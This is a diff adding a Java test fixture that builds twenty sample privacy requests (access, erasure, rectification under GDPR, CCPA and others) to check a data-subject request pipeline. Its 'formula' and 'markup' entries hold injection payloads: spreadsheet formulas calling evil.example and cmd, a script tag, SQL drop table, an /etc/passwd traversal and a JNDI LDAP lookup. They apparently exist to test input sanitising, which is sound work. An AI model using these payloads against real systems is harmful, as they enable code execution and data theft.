@@ -1,0 +1,171 @@
+package io.genesysdsr.pipeline;
+
+import java.time.Duration;
+import java.time.Instant;
+import java.time.ZoneOffset;
+import java.time.temporal.ChronoUnit;
+import java.util.List;
+import org.jspecify.annotations.Nullable;
+
+/**
+ * What somebody asks for, before it is written down in the way of a channel.
+ *
+ * @param key what it is called here, unique
+ * @param reference the end of the reference that it is sent under
+ * @param receivedAt the sender's claim, or null for none
+ * @param identifiers kind and value, as the person wrote it
+ * @param correction kind, existing and updated value; or null
+ * @param proved whether an agent's word comes with it
+ */
+record Asking(
+        String key,
+        String reference,
+        String regulation,
+        String right,
+        @Nullable String receivedAt,
+        @Nullable String name,
+        List<Known> identifiers,
+        @Nullable Correction correction,
+        boolean proved,
+        @Nullable String country,
+        @Nullable String language) {
+
+    /** By what somebody is known. */
+    record Known(String kind, String value) {}
+
+    /** What is wrong, and what is right. */
+    record Correction(String kind, String existing, String updated) {}
+
+    /** Whether a column of its own for each identifier says all of it. */
+    boolean isFlat() {
+        return identifiers.stream().noneMatch(i -> i.kind().equals("MYSPACE"));
+    }
+
+    /** Twenty that differ in all that a channel could spoil; the last three repeat earlier ones. */
+    static List<Asking> twenty() {
+        String claim = Instant.now()
+                .minus(Duration.ofDays(3))
+                .truncatedTo(ChronoUnit.SECONDS)
+                .atOffset(ZoneOffset.ofHours(1))
+                .toString();
+        Known ada = new Known("EMAIL", "Ada.Lovelace@Example.ORG");
+        Known grace = new Known("EMAIL", "grace@example.org");
+        Asking german = of("german", "GDPR", "ACCESS", claim, "Ada Lovelace", ada, new Known("PHONE", "030 901820"))
+                .from("DE", "de");
+        Asking british = of(
+                        "british",
+                        "UK_GDPR",
+                        "ERASURE",
+                        claim,
+                        "Grace O'Hopper",
+                        grace,
+                        new Known("PHONE", "0044 20 7946 0958"))
+                .from("GB", "en-GB");
+        Asking american = of(
+                        "american",
+                        "CCPA",
+                        "PORTABILITY",
+                        claim,
+                        "Alan \"T\" Turing",
+                        new Known("PHONE", "(415) 555-2671"),
+                        new Known("EXTERNAL_ID", "C-000417"))
+                .from("us", "en-us");
+        return List.of(
+                german,
+                british,
+                american,
+                of("brazilian", "LGPD", "ACCESS", claim, "João Gonçalves", new Known("PHONE", "+55 11 91234-5678")),
+                of("corrected", "GDPR", "RECTIFICATION", claim, "Edsger", new Known("EMAIL", "edsger@example.org"))
+                        .correcting(new Correction("EMAIL", "edsger@example.org", "E.W@example.org")),
+                of(
+                                "much-known",
+                                "GDPR",
+                                "ACCESS",
+                                claim,
+                                "Zoë Łukasiewicz-Brûlée",
+                                new Known("EMAIL", "zoe@example.org"),
+                                new Known("EMAIL", "zoë@müller.example"),
+                                new Known("PHONE", "+49 (0)30 901820"),
+                                new Known("PHONE", "+43 1 58858"),
+                                new Known("ADDRESS", "Straße des 17. Juni 135, 10623 Berlin; \"Hof\""),
+                                new Known("EXTERNAL_ID", "0042"))
+                        .from("DE", "pl"),
+                of(
+                        "social",
+                        "GDPR",
+                        "ERASURE",
+                        claim,
+                        "李小龍",
+                        new Known("TWITTER", "@ada"),
+                        new Known("INSTAGRAM", "ada.l"),
+                        new Known("FACEBOOK", "ada|lovelace"),
+                        new Known("APPLE_MESSAGES", "urn:mbid:AQAAY3")),
+                of("twice", "GDPR", "ACCESS", claim, null, ada, ada, new Known("EMAIL", "ada.lovelace@example.org")),
+                of("unproved", "GDPR", "ACCESS", claim, "Ada", ada).unproved(),
+                of("undated", "UK_GDPR", "ERASURE", null, "Grace", grace).unproved(),
+                of("unknown-right", "GDPR", "FORGET_ME", claim, "Ada", ada),
+                of("unknown-law", "POPIA", "ACCESS", claim, "Ada", new Known("EMAIL", "nobody")),
+                of("unknown-kind", "GDPR", "ACCESS", claim, "Ada", new Known("MYSPACE", "ada")),
+                of("phone-of-nowhere", "GDPR", "ACCESS", claim, "Ada", new Known("PHONE", "030 901820")),
+                of("from-nowhere", "GDPR", "ACCESS", "1990-01-01T00:00:00Z", "Ada", ada)
+                        .from("Narnia", "not a language"),
+                of(
+                        "formula",
+                        "GDPR",
+                        "ACCESS",
+                        claim,
+                        "=HYPERLINK(\"http://evil.example\";\"x\")",
+                        new Known("EXTERNAL_ID", "@SUM(1+1)*cmd|' /C calc'!A0")),
+                of(
+                        "markup",
+                        "GDPR",
+                        "ACCESS",
+                        claim,
+                        "<script>alert('x')</script>'; drop table request; --",
+                        new Known("EXTERNAL_ID", "../../etc/passwd"),
+                        new Known("EXTERNAL_ID", "${jndi:ldap://evil.example}")),
+                german.as("german-again", "german"),
+                british.as("british-joined", "british-joined"),
+                american.as("american-conflicting", "american").knownBy(new Known("EXTERNAL_ID", "C-000418")));
+    }
+
+    private static Asking of(
+            String key, String regulation, String right, @Nullable String at, @Nullable String name, Known... known) {
+        return new Asking(key, key, regulation, right, at, name, List.of(known), null, true, null, null);
+    }
+
+    private Asking from(String where, String speaks) {
+        return new Asking(
+                key, reference, regulation, right, receivedAt, name, identifiers, correction, proved, where, speaks);
+    }
+
+    private Asking correcting(Correction wrong) {
+        return new Asking(
+                key, reference, regulation, right, receivedAt, name, identifiers, wrong, proved, country, language);
+    }
+
+    private Asking unproved() {
+        return new Asking(
+                key, reference, regulation, right, receivedAt, name, identifiers, correction, false, country, language);
+    }
+
+    private Asking as(String called, String under) {
+        return new Asking(
+                called, under, regulation, right, receivedAt, name, identifiers, correction, proved, country, language);
+    }
+
+    private Asking knownBy(Known... others) {
+        return new Asking(
+                key,
+                reference,
+                regulation,
+                right,
+                receivedAt,
+                name,
+                List.of(others),
+                correction,
+                proved,
+                country,
+                language);
+    }
+}
